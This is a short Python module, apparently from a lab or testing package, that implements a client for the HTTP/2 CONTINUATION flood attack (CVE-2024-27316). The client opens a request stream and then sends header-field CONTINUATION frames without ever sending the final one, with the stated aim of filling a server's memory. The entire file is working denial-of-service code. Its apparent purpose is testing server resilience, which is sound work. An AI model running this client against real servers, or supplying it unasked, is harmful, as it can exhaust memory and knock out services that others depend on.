"""Header fields without end (CVE-2024-27316 and others), to fill the memory of a server."""

from __future__ import annotations

from thinktime.lab.hostile.http2 import (
    CONTINUATION,
    END_STREAM,
    HEADERS,
    Http2,
    frame,
    literal,
    request,
)

FIELDS = b"".join(literal(b"x-%03d" % number, b"y" * 100) for number in range(10))


class Client(Http2):
    """Sends ten more header fields, and never the last."""

    accepts_settings = False
    """Between the frames of header fields no other frame may come: it would end the connection."""

    def begun(self) -> bytes:
        """The beginning of a request."""
        return frame(HEADERS, END_STREAM, self.stream, request(self.settings.path))

    def act(self) -> None:
        """Send one frame."""
        if self.connected() and self.send(frame(CONTINUATION, 0, self.stream, FIELDS)):
            self.counts["frames sent"] += 1
